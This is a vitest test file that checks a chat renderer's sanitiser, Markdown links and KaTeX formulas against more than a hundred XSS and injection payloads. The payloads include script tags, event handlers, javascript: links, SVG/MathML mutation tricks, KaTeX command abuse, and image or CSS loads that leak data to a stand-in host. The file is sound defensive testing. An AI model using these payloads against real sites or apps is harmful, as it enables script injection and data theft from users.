import { beforeAll, describe, expect, it } from 'vitest';
import { drawMath, katex } from './math';
import { renderBlock } from './render';
import { sanitize } from './sanitize';
import { splitBlocks } from './splitter';

beforeAll(() => katex.load());

const html = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script x>alert(1)</script x>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)"//',
  '<img/src=x/onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">',
  '<img src=`x` onerror=alert(1)>',
  '<img src="https://evil.example/?d=secret">',
  '<image href="https://evil.example/a.png">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
  '<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://evil.example" target=_top>x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url(https://evil.example/?d)}</style>',
  '<div style="background:url(https://evil.example/?d)">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<b onmouseover=alert(1)>x</b>',
  '<br onclick=alert(1)>',
  '<kbd/onclick=alert(1)>x</kbd>',
  '<sub id=app name=app>x</sub>',
  '<form id=x><input name=attributes></form>',
  '<a id=document name=cookie>x</a>',
  '<dialog open onclose=alert(1)>x</dialog>',
  '<portal src=https://evil.example>',
  '<x contenteditable onblur=alert(1)>x</x>',
  '<span class="math" data-display="1" data-tex="\\href{javascript:alert(1)}{x}">x</span>',
  '<button data-copy-code=1 onclick=alert(1)>x</button>',
  '<a data-url="javascript:alert(1)" class=link>x</a>',
];

const markdown = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](file:///etc/passwd)',
  '[x](smb://evil.example/share)',
  '[x](ms-msdt:/id)',
  '[x](\\\\evil.example\\share)',
  '[x](//evil.example)',
  '[x](tauri://localhost/)',
  '[x](http://ipc.localhost/chat_send)',
  '[x](https://evil.example "onmouseover=alert(1)")',
  '[x](https://evil.example/"onmouseover="alert(1))',
  "[x](https://evil.example/'onmouseover='alert(1))",
  '[x](https://evil.example/<script>alert(1)</script>)',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/?d=secret)',
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x][r]\n\n[r]: https://evil.example/?d=secret',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<https://evil.example/"onmouseover="alert(1)>',
  'https://evil.example/"onmouseover="alert(1)',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<img src=x onerror=alert(1)>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '```x" onclick="alert(1)\ncode\n```',
  '    <script>alert(1)</script>',
  '| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| <svg onload=alert(1)> | d |',
  '# <img src=x onerror=alert(1)>',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics{https://evil.example/a.png}$',
  '$\\htmlStyle{background:url(https://evil.example)}{x}$',
  '$\\htmlData{onclick=alert(1)}{x}$',
  '$\\htmlId{app}{x}$',
  '$\\htmlClass{x" onclick="alert(1)}{x}$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$\\color{red;background:url(https://evil.example)}x$',
  '$\\textcolor{"><img src=x onerror=alert(1)>}{x}$',
  '$"><img src=x onerror=alert(1)>$',
  "$'onmouseover=alert(1)$",
  '\\(<script>alert(1)</script>\\)',
  '\\[<svg onload=alert(1)>\\]',
  '$$\n</span><script>alert(1)</script>\n$$',
  '$\\def\\x{\\x\\x}\\x$',
];

const wrappers: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `text ${payload} text`,
  (payload) => `- ${payload.replace(/\n/g, '\n  ')}`,
  (payload) => `> ${payload.replace(/\n/g, '\n> ')}`,
  (payload) => `**${payload}**`,
];

const allowedUrl = /^(?:https?:\/\/|mailto:)/i;

function problems(text: string): string[] {
  const fragment = document.createElement('div');
  for (const block of splitBlocks(text)) fragment.append(sanitize(renderBlock(block)));
  const found: string[] = [];
  if (fragment.querySelector('[style]')) found.push('style before formulas are drawn');
  drawMath(fragment);
  document.body.append(fragment);
  for (const element of fragment.querySelectorAll('*')) {
    const name = element.localName;
    const inFormula = element.closest('.katex') !== null;
    if (
      /^(?:script|style|iframe|object|embed|link|meta|base|img|image|form|video|audio|template|use)$/.test(
        name,
      )
    ) {
      found.push(`<${name}>`);
    }
    for (const { name: key, value } of element.attributes) {
      if (
        /^on|^(?:href|src|srcset|srcdoc|action|formaction|background|poster|id|name|xlink:href|target)$/i.test(
          key,
        )
      ) {
        found.push(`${name} ${key}=${value}`);
      }
      if (key === 'style' && (!inFormula || /url|position:\s*fixed/i.test(value))) {
        found.push(`${name} style=${value}`);
      }
      if (key === 'data-url' && !allowedUrl.test(value)) found.push(`address ${value}`);
    }
  }
  fragment.remove();
  return found;
}

describe('an answer that tries to be more than text', () => {
  const payloads = [...html, ...markdown];

  it('is tried in more than a hundred ways', () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(100);
  });

  it.each(payloads)('leaves nothing that runs, loads or navigates: %s', (payload) => {
    for (const wrap of wrappers) expect(problems(wrap(payload)), wrap(payload)).toEqual([]);
  });

  it('is stopped by the sanitiser alone, even if it came as HTML', () => {
    for (const payload of html) {
      const root = document.createElement('div');
      root.append(sanitize(payload));
      expect(root.innerHTML).not.toMatch(
        /<script|<iframe|<svg|<img|<style|\son\w+=|href=|src=|style=/i,
      );
    }
  });

  it('shows HTML as the text it is', () => {
    const root = document.createElement('div');
    root.append(
      sanitize(renderBlock({ kind: 'text', id: 1, text: 'Use `<b>` or <script>x</script>.' })),
    );
    expect(root.textContent?.trim()).toBe('Use <b> or <script>x</script>.');
  });
});

describe('links and pictures', () => {
  function shown(text: string) {
    const root = document.createElement('div');
    for (const block of splitBlocks(text)) root.append(sanitize(renderBlock(block)));
    return root;
  }

  it('keep their address out of reach of the web view', () => {
    const link = shown('[book](https://example.com/a)').querySelector('.link');
    expect(link?.getAttribute('href')).toBeNull();
    expect(link?.getAttribute('data-url')).toBe('https://example.com/a');
    expect(link?.textContent).toBe('book');
  });

  it('never load a picture: alternative text and address stand in its place', () => {
    const root = shown('![A cat](https://example.com/cat.png)');
    expect(root.querySelector('img')).toBeNull();
    expect(root.querySelector('.picture')?.textContent).toBe('A cat https://example.com/cat.png');
  });
});

describe('formulas', () => {
  function formulas(text: string) {
    const root = document.createElement('div');
    for (const block of splitBlocks(text)) root.append(sanitize(renderBlock(block)));
    drawMath(root);
    return root;
  }

  it.each([
    '$a^2$',
    '\\(a^2\\)',
    '$$a^2$$',
    '\\[a^2\\]',
    '$$\na^2\n$$',
    '\\[\na^2\n\\]',
    '- x\n\n  $$a^2$$',
  ])('are drawn: %s', (text) => {
    expect(formulas(text).querySelectorAll('.katex').length).toBe(1);
  });

  it.each(['It costs $5 and $6.', 'From $100k to $200k', 'US$5/US$6', '`$a$`', '\\$a\\$', '$ a $'])(
    'are not seen in: %s',
    (text) => {
      expect(formulas(text).querySelector('.katex')).toBeNull();
    },
  );

  it('that cannot be drawn show their source', () => {
    expect(formulas('$\\frac{a$').textContent).toContain('\\frac{a');
  });
});
